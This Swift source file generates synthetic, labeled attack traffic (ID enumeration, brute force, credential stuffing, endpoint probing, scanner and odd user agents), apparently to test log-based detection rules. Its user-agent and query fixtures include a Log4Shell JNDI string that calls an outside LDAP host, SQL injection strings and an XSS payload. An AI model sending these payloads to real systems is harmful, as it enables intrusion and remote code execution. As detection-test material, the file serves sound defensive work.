/// Labeled attack instances of the four rule kinds, with variants. Each instance is materialised at a slot inside the
/// span; requests carry their label index so the written label reports measured start, end and count.
extension TrafficGenerator {
    struct AttackPlan {
        var rule: String
        var variant: String
        var seconds: Double
        var build: (inout TrafficGenerator, Int64, inout GeneratorRandom) -> [GeneratedRequest]
    }

    func attackSelected(_ rule: String, _ variant: String) -> Bool {
        configuration.attacks.includes(rule: rule, variant: variant)
    }

    mutating func setUpAttacks() {
        var arng = rng.fork(20)
        var plans: [AttackPlan] = []
        plans += idEnumerationPlans()
        plans += authFailurePlans()
        plans += unknownEndpointPlans()
        plans += userAgentPlans()
        plans = plans.filter { attackSelected($0.rule, $0.variant) }
        var order = Array(plans.indices)
        arng.shuffle(&order)
        for (slot, i) in order.enumerated() {
            let p = plans[i]
            let start = slotStart(slot, of: plans.count, lasting: p.seconds)
            let events = p.build(&self, start, &arng)
            schedule(events)
        }
    }

    static func userStatus(_ id: Int) -> Int { id <= maxUserID && id % 23 != 0 ? 200 : 404 }

    // MARK: id-enumeration

    func idEnumerationPlans() -> [AttackPlan] {
        let rule = "id-enumeration"
        return [
            AttackPlan(rule: rule, variant: "fast-walk", seconds: 400) { g, t, r in
                let ip = "185.220.101.47"
                let user = "mallory"
                let l = g.addLabel(
                    rule: rule, variant: "fast-walk", trap: false, ip: ip, user: user,
                    route: "/api/v1/users/{id}", method: "GET",
                    note: "Registered account walks /api/v1/users/1..500 in minutes (IDOR harvest).")
                var b = SessionBuilder(at: t, ip: ip, ua: "python-requests/2.31.0")
                b.add(&r, user: nil, "POST", "/api/v1/login", 200, gap: 1...3)
                for id in 1...500 {
                    b.add(
                        &r, user: user, "GET", "/api/v1/users/\(id)", Self.userStatus(id), labels: [l], gap: 0.2...0.8)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "fast-walk-anonymous-v6", seconds: 500) { g, t, r in
                let ip = "2a0b:f4c2:2::1b"
                let l = g.addLabel(
                    rule: rule, variant: "fast-walk-anonymous-v6", trap: false, ip: ip,
                    route: "/api/v2/users/{id}/profile", method: "GET",
                    note: "Unauthenticated IPv6 client scrapes public profiles 5000..5600.")
                var b = SessionBuilder(at: t, ip: ip, ua: "Go-http-client/1.1")
                for id in 5000...5600 {
                    b.add(
                        &r, user: nil, "GET", "/api/v2/users/\(id)/profile", Self.userStatus(id), labels: [l],
                        gap: 0.3...1.2)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "low-and-slow", seconds: 4.6 * 3600) { g, t, r in
                let ip = "203.0.113.7"
                let user = "t.kowalski"
                let l = g.addLabel(
                    rule: rule, variant: "low-and-slow", trap: false, ip: ip, user: user,
                    route: "/api/v1/invoices/{id}", method: "GET",
                    note: "One request every 20-60 s for ~4.5 h over ~400 sequential invoice ids, browser UA.")
                var b = SessionBuilder(at: t, ip: ip, ua: TrafficCatalog.browsers[0])
                var id = 41_200
                while b.t < t + Int64(4.5 * 3600 * 1_000_000) {
                    b.add(
                        &r, user: user, "GET", "/api/v1/invoices/\(id)", id % 17 == 0 ? 404 : 200,
                        ref: Self.app + "/dashboard",
                        labels: [l], gap: 20...60)
                    id += 1
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "low-and-slow-shuffled-v6", seconds: 3.2 * 3600) { g, t, r in
                let ip = "2001:db8:85a3:4::8a2e"
                let user = "quiet.one"
                let l = g.addLabel(
                    rule: rule, variant: "low-and-slow-shuffled-v6", trap: false, ip: ip, user: user,
                    route: "/api/v1/orders/{id}", method: "GET",
                    note: "IPv6 app user reads 260 order ids of a range in shuffled order, one per 30-50 s, 3 h.")
                var ids = Array(310_000..<310_260)
                r.shuffle(&ids)
                var b = SessionBuilder(at: t, ip: ip, ua: "okhttp/4.12.0")
                for id in ids { b.add(&r, user: user, "GET", "/api/v1/orders/\(id)", 200, labels: [l], gap: 30...50) }
                return b.out
            },
            AttackPlan(rule: rule, variant: "shuffled", seconds: 1000) { g, t, r in
                let ip = "45.155.205.233"
                let user = "bob.k"
                let l = g.addLabel(
                    rule: rule, variant: "shuffled", trap: false, ip: ip, user: user,
                    route: "/api/v1/orders/{id}", method: "GET",
                    note: "400 order ids 200000..200399 fetched in random order within ~15 min.")
                var ids = Array(200_000..<200_400)
                r.shuffle(&ids)
                var b = SessionBuilder(at: t, ip: ip, ua: "okhttp/4.12.0")
                for id in ids { b.add(&r, user: user, "GET", "/api/v1/orders/\(id)", 200, labels: [l], gap: 1...3) }
                return b.out
            },
            AttackPlan(rule: rule, variant: "walk-with-gaps", seconds: 700) { g, t, r in
                let ip = "89.248.165.74"
                let user = "scraper01"
                let l = g.addLabel(
                    rule: rule, variant: "walk-with-gaps", trap: false, ip: ip, user: user,
                    route: "/api/v2/customers/{id}", method: "GET",
                    note: "Walk with random steps of 1-9 over customer ids; most guesses answer 404.")
                var b = SessionBuilder(at: t, ip: ip, ua: "python-requests/2.28.1")
                var id = 1000
                for _ in 0..<320 {
                    id += r.int(1...9)
                    b.add(
                        &r, user: user, "GET", "/api/v2/customers/\(id)", r.chance(0.35) ? 200 : 404, labels: [l],
                        gap: 0.5...2)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "one-user-many-ips", seconds: 2000) { g, t, r in
                let user = "harvest.bot"
                let ips = (0..<60).map { _ in Client.randomIPv4(&r) }
                let l = g.addLabel(
                    rule: rule, variant: "one-user-many-ips", trap: false, key: "user", ips: ips, user: user,
                    route: "/api/v1/accounts/{id}/settings", method: "GET",
                    note: "One account's token used from 60 residential-proxy addresses, walking account ids.")
                var out: [GeneratedRequest] = []
                var tt = t
                for id in 3000..<3350 {
                    var b = SessionBuilder(at: tt, ip: r.pick(ips), ua: "okhttp/4.11.0")
                    b.add(
                        &r, user: user, "GET", "/api/v1/accounts/\(id)/settings", id % 13 == 0 ? 404 : 200, labels: [l],
                        gap: 2...8)
                    out += b.out
                    tt = b.t
                }
                return out
            },
            AttackPlan(rule: rule, variant: "fake-googlebot-walk", seconds: 900) { g, t, r in
                let ip = "45.141.84.120"
                let l = g.addLabel(
                    rule: rule, variant: "fake-googlebot-walk", trap: false, ip: ip, route: "/products/{id}",
                    method: "GET",
                    note: "A scraper claiming to be Googlebot (not from Google's ranges) walks product pages "
                        + "2000..2599 at ~1/s: unlike the crawler trap, neither the source nor the rate is a crawler's.")
                var b = SessionBuilder(at: t, ip: ip, ua: TrafficCatalog.crawlers[0].userAgent)
                for id in 2000..<2600 {
                    b.add(&r, user: nil, "GET", "/products/\(id)", r.chance(0.03) ? 404 : 200, labels: [l], gap: 0.5...1.5)
                }
                return b.out
            },
        ]
    }

    // MARK: auth-failure-cluster

    func authFailurePlans() -> [AttackPlan] {
        let rule = "auth-failure-cluster"
        return [
            AttackPlan(rule: rule, variant: "brute-force", seconds: 600) { g, t, r in
                let ip = "193.42.33.14"
                let l = g.addLabel(
                    rule: rule, variant: "brute-force", trap: false, ip: ip, route: "/api/v1/login", method: "POST",
                    note: "Single client: 400 failed logins (401) in ~8 min.")
                var b = SessionBuilder(at: t, ip: ip, ua: "python-requests/2.28.1")
                for _ in 0..<400 { b.add(&r, user: nil, "POST", "/api/v1/login", 401, labels: [l], gap: 0.5...2) }
                return b.out
            },
            AttackPlan(rule: rule, variant: "brute-force-slow-v6", seconds: 1800) { g, t, r in
                let ip = "2a02:c207:2054:1234::1"
                let l = g.addLabel(
                    rule: rule, variant: "brute-force-slow-v6", trap: false, ip: ip, route: "/api/v2/auth/token",
                    method: "POST", note: "IPv6 client: 150 failed OAuth token requests, one per 5-15 s.")
                var b = SessionBuilder(at: t, ip: ip, ua: "Go-http-client/2.0")
                for _ in 0..<150 { b.add(&r, user: nil, "POST", "/api/v2/auth/token", 401, labels: [l], gap: 5...15) }
                return b.out
            },
            AttackPlan(rule: rule, variant: "403-probing", seconds: 600) { g, t, r in
                let ip = "91.132.147.168"
                let user = "eve"
                let l = g.addLabel(
                    rule: rule, variant: "403-probing", trap: false, ip: ip, user: user, route: "/api/v1/admin/*",
                    note: "Ordinary user probes admin routes with GET, PUT and DELETE: 80 × 403 in ~8 min.")
                var b = SessionBuilder(at: t, ip: ip, ua: TrafficCatalog.browsers[4])
                let targets: [(String, String)] = [
                    ("GET", "/api/v1/admin/users"), ("GET", "/api/v1/admin/settings"),
                    ("PUT", "/api/v1/admin/settings"),
                    ("GET", "/api/v1/admin/audit-log"), ("DELETE", "/api/v1/admin/users/17"),
                    ("GET", "/api/v1/admin/users?role=admin"),
                ]
                for _ in 0..<80 {
                    let (m, p) = r.pick(targets)
                    b.add(&r, user: user, m, p, 403, ref: Self.app + "/dashboard", labels: [l], gap: 2...10)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "invalid-token-sweep", seconds: 600) { g, t, r in
                let ip = "162.55.88.12"
                let l = g.addLabel(
                    rule: rule, variant: "invalid-token-sweep", trap: false, ip: ip,
                    note: "Replayed/forged bearer token tried on many API routes: 120 × 401 on GETs.")
                var b = SessionBuilder(at: t, ip: ip, ua: "curl/8.4.0")
                for _ in 0..<120 {
                    let p = r.pick([
                        "/api/v1/users/me", "/api/v1/orders?page=1", "/api/v1/cart", "/api/v1/notifications",
                        "/api/v1/invoices/\(r.int(1000...9000))", "/api/v1/admin/users",
                    ])
                    b.add(&r, user: nil, "GET", p, 401, labels: [l], gap: 1...6)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "credential-stuffing", seconds: 600) { g, t, r in
                let ips = (0..<80).map { _ in Client.randomIPv4(&r) }
                let l = g.addLabel(
                    rule: rule, variant: "credential-stuffing", trap: false, key: "route", ips: ips,
                    route: "/api/v1/login", method: "POST",
                    note: "80 addresses, 1-3 failed logins each, within 10 minutes (distributed).")
                var out: [GeneratedRequest] = []
                for ip in ips {
                    var b = SessionBuilder(
                        at: t + Int64(r.double(0...540) * 1_000_000), ip: ip, ua: r.pick(TrafficCatalog.browsers))
                    for _ in 0..<r.int(1...3) {
                        b.add(
                            &r, user: nil, "POST", "/api/v1/login", r.chance(0.02) ? 200 : 401, labels: [l], gap: 2...20
                        )
                    }
                    out += b.out
                }
                return out
            },
            AttackPlan(rule: rule, variant: "credential-stuffing-v6-mix", seconds: 600) { g, t, r in
                let ips = (0..<120).map { i in i % 4 == 0 ? Client.randomIPv6(&r) : Client.randomIPv4(&r) }
                let l = g.addLabel(
                    rule: rule, variant: "credential-stuffing-v6-mix", trap: false, key: "route", ips: ips,
                    route: "/api/v2/auth/token", method: "POST",
                    note: "120 addresses (a quarter IPv6), 1-2 failed token requests each, within 8 minutes.")
                var out: [GeneratedRequest] = []
                for ip in ips {
                    var b = SessionBuilder(
                        at: t + Int64(r.double(0...460) * 1_000_000), ip: ip, ua: r.pick(TrafficCatalog.mobileApps))
                    for _ in 0..<r.int(1...2) {
                        b.add(&r, user: nil, "POST", "/api/v2/auth/token", 401, labels: [l], gap: 2...15)
                    }
                    out += b.out
                }
                return out
            },
        ]
    }

    // MARK: unknown-endpoint

    func unknownEndpointPlans() -> [AttackPlan] {
        let rule = "unknown-endpoint"
        func ghost(
            _ variant: String, route: String, method: String, paths: @escaping (inout GeneratorRandom) -> String,
            callers: Int, calls: Int, note: String
        ) -> AttackPlan {
            AttackPlan(rule: rule, variant: variant, seconds: 6 * 3600) { g, t, r in
                let who = (0..<callers).map { i -> (String, String?, String) in
                    i == 0
                        ? ("10.20.7.31", nil, "python-requests/2.31.0")
                        : (
                            Client.randomIPv4(&r), Client.userName(&r),
                            r.pick(TrafficCatalog.mobileApps + TrafficCatalog.scripted)
                        )
                }
                let l = g.addLabel(
                    rule: rule, variant: variant, trap: false, key: "route", ips: who.map(\.0),
                    route: route, method: method, note: note)
                var out: [GeneratedRequest] = []
                for k in 0..<calls {
                    let (ip, user, ua) = who[k % who.count]
                    var b = SessionBuilder(at: t + Int64(r.double(0...(5.5 * 3600)) * 1_000_000), ip: ip, ua: ua)
                    b.add(&r, user: user, method, paths(&r), r.chance(0.9) ? 200 : 404, labels: [l])
                    out += b.out
                }
                return out.sorted { $0.time < $1.time }
            }
        }
        var plans = [
            ghost(
                "ghost-debug-route", route: "/api/v1/debug/users", method: "GET", paths: { _ in "/api/v1/debug/users" },
                callers: 3, calls: 12, note: "Undocumented debug route left enabled, answering 200 to three callers."),
            ghost(
                "ghost-internal-export", route: "/api/v1/internal/export", method: "GET",
                paths: { r in "/api/v1/internal/export?format=\(r.pick(["csv", "json"]))" }, callers: 2, calls: 6,
                note: "Undocumented internal export answering 200 from the public API."),
            ghost(
                "ghost-autogenerated-crud", route: "/api/v1/tables/{id}", method: "GET",
                paths: { r in "/api/v1/tables/\(r.int(1...40))" }, callers: 4, calls: 25,
                note: "Auto-generated CRUD route exposed by a framework, 200 to a few callers."),
            ghost(
                "ghost-bulk-import", route: "/api/v2/users/bulk-import", method: "POST",
                paths: { _ in "/api/v2/users/bulk-import" },
                callers: 2, calls: 4, note: "Undocumented bulk import route (POST) answering 200."),
        ]
        let probers: [(String, String, Int)] = [
            ("198.51.100.23", TrafficCatalog.browsers[0], 60),
            ("2a0e:97c0:3e3:1::5", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", 45),
            (
                "159.223.44.91",
                "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                70
            ),
        ]
        for (n, p) in probers.enumerated() {
            plans.append(
                AttackPlan(rule: rule, variant: n == 1 ? "probing-client-v6" : "probing-client", seconds: 300) {
                    g, t, r in
                    let l = g.addLabel(
                        rule: rule, variant: n == 1 ? "probing-client-v6" : "probing-client", trap: false, ip: p.0,
                        note:
                            "One client asks for \(p.2) sensitive or nonexistent paths (.env, .git, wp-login, actuator, traversal); mostly 404."
                    )
                    var paths = TrafficCatalog.probePaths
                    r.shuffle(&paths)
                    var b = SessionBuilder(at: t, ip: p.0, ua: p.1)
                    b.add(&r, user: nil, "GET", "/", 200, labels: [l], gap: 0.2...1)
                    for k in 0..<p.2 {
                        let path = paths[k % paths.count]
                        b.add(&r, user: nil, "GET", path, path == "/graphql" ? 405 : 404, labels: [l], gap: 0.1...3)
                    }
                    return b.out
                })
        }
        return plans
    }

    // MARK: suspicious-user-agent

    func userAgentPlans() -> [AttackPlan] {
        let rule = "suspicious-user-agent"
        var plans: [AttackPlan] = []
        let scannerIPs = [
            "45.148.10.92", "167.94.138.44", "2604:a880:400:d1::7e1:a001", "162.142.125.9", "71.6.199.23",
            "104.248.32.11", "138.68.90.4", "23.94.21.188",
        ]
        for (i, s) in TrafficCatalog.scanners.enumerated() {
            let ip = scannerIPs[i % scannerIPs.count]
            plans.append(
                AttackPlan(rule: rule, variant: "scanner-\(s.tool)", seconds: 600) { g, t, r in
                    let l = g.addLabel(
                        rule: rule, variant: "scanner-\(s.tool)", trap: false, ip: ip,
                        note: "Known scanner user agent (\(s.tool)).")
                    var b = SessionBuilder(at: t, ip: ip, ua: s.userAgent)
                    var labels = [l]
                    let probes: [String]
                    switch s.tool {
                    case "sqlmap":
                        labels.append(
                            g.addLabel(
                                rule: "unknown-endpoint", variant: "probing-client-injection", trap: false, ip: ip,
                                note: "sqlmap sends SQL injection payloads in the query string."))
                        probes = (0..<90).map { k in
                            "/api/v1/products?q="
                                + [
                                    "lamp", "lamp%27", "lamp%27%20AND%201%3D1--%20-", "lamp%22%20OR%20%221%22%3D%221",
                                    "lamp%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
                                    "lamp%27%3BSELECT%20PG_SLEEP%285%29--",
                                ][k % 6]
                                + "&page=1"
                        }
                    case "zgrab", "masscan": probes = ["/", "/"]
                    case "wpscan":
                        labels.append(
                            g.addLabel(
                                rule: "unknown-endpoint", variant: "probing-client-scanner", trap: false, ip: ip,
                                note: "WPScan asks for WordPress paths this API does not have."))
                        probes = TrafficCatalog.wordpressPaths
                    case "gobuster", "ffuf":
                        labels.append(
                            g.addLabel(
                                rule: "unknown-endpoint", variant: "probing-client-scanner", trap: false, ip: ip,
                                note: "\(s.tool) directory brute force over a wordlist."))
                        probes = TrafficCatalog.dirWords.map { "/" + $0 + (s.tool == "ffuf" ? "" : "/") }
                    default:  // nikto, nuclei
                        labels.append(
                            g.addLabel(
                                rule: "unknown-endpoint", variant: "probing-client-scanner", trap: false, ip: ip,
                                note: "\(s.tool) asks for many sensitive paths."))
                        probes = TrafficCatalog.probePaths
                    }
                    for p in probes {
                        let status =
                            p == "/" ? 200 : (p.hasPrefix("/api/v1/products") ? (p.contains("SLEEP") ? 500 : 200) : 404)
                        b.add(&r, user: nil, "GET", p, status, labels: labels, gap: 0.05...1.5)
                    }
                    return b.out
                })
        }
        func odd(_ variant: String, ip: String, ua: String?, count: Int, note: String) -> AttackPlan {
            AttackPlan(rule: rule, variant: variant, seconds: 600) { g, t, r in
                let l = g.addLabel(rule: rule, variant: variant, trap: false, ip: ip, note: note)
                var b = SessionBuilder(at: t, ip: ip, ua: ua)
                for _ in 0..<count {
                    b.add(
                        &r, user: nil, "GET", r.pick(["/", "/api/v1/products?q=lamp", "/login", "/api/v1/search?q=x"]),
                        200,
                        labels: [l], gap: 2...40)
                }
                return b.out
            }
        }
        plans += [
            odd(
                "empty-ua-missing", ip: "5.188.62.140", ua: nil, count: 30,
                note: "No User-Agent header at all (logged as -)."),
            odd(
                "empty-ua-blank", ip: "2a03:b0c0:3:d0::1b4:7001", ua: "", count: 12,
                note: "User-Agent header sent empty."),
            odd(
                "ua-jndi", ip: "45.83.64.1",
                ua: "${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}",
                count: 5, note: "Log4Shell payload in the user agent."),
            odd(
                "ua-script", ip: "146.70.119.5", ua: "<script>alert(document.domain)</script>", count: 3,
                note: "XSS payload in the user agent."),
            odd(
                "ua-sql", ip: "185.191.171.40", ua: "Mozilla/5.0' OR '1'='1' -- ", count: 4,
                note: "SQL injection in the user agent."),
            odd(
                "ua-control-bytes", ip: "101.36.107.33",
                ua: "Mozilla/5.0 (Windows NT 10.0)\u{01}\u{07}\u{1b}[31m\u{7f}", count: 4,
                note: "Control bytes in the user agent (combined logs show them nginx-escaped as \\xHH)."),
            odd(
                "ua-absurd-length", ip: "80.94.95.81", ua: "Mozilla/5.0 " + String(repeating: "A", count: 4000),
                count: 2,
                note: "4 KB user agent."),
            AttackPlan(rule: rule, variant: "ua-rotation", seconds: 700) { g, t, r in
                let ip = "104.244.72.115"
                let l = g.addLabel(
                    rule: rule, variant: "ua-rotation", trap: false, ip: ip,
                    note: "One anonymous client rotates through 16 user agents in ~10 minutes.")
                let uas = Array(TrafficCatalog.browsers.prefix(16))
                var b = SessionBuilder(at: t, ip: ip, ua: nil)
                let pages = ["/products", "/products/1042", "/products/2210", "/api/v1/products/1042", "/pricing"]
                for k in 0..<64 {
                    b.ua = uas[k % uas.count]
                    b.add(&r, user: nil, "GET", pages[k % pages.count], 200, labels: [l], gap: 3...15)
                }
                return b.out
            },
            AttackPlan(rule: rule, variant: "scripted-on-pages", seconds: 900) { g, t, r in
                let ipA = "34.82.141.7"
                let ipB = "3.250.19.66"
                let la = g.addLabel(
                    rule: rule, variant: "scripted-on-pages", trap: false, ip: ipA,
                    note: "curl fetching browser pages (x-reqwatch-page routes) 20 times.")
                let lb = g.addLabel(
                    rule: rule, variant: "scripted-on-pages", trap: false, ip: ipB,
                    note: "python-requests scraping browser pages 40 times.")
                var a = SessionBuilder(at: t, ip: ipA, ua: "curl/8.5.0")
                for k in 0..<20 {
                    a.add(
                        &r, user: nil, "GET", ["/", "/login", "/dashboard", "/docs"][k % 4], k % 4 == 2 ? 302 : 200,
                        labels: [la], gap: 5...30)
                }
                var b = SessionBuilder(at: t + 120_000_000, ip: ipB, ua: "python-requests/2.31.0")
                for k in 0..<40 {
                    b.add(
                        &r, user: nil, "GET", ["/products", "/pricing", "/products/77", "/docs"][k % 4], 200,
                        labels: [lb], gap: 3...20)
                }
                return a.out + b.out
            },
        ]
        return plans
    }
}
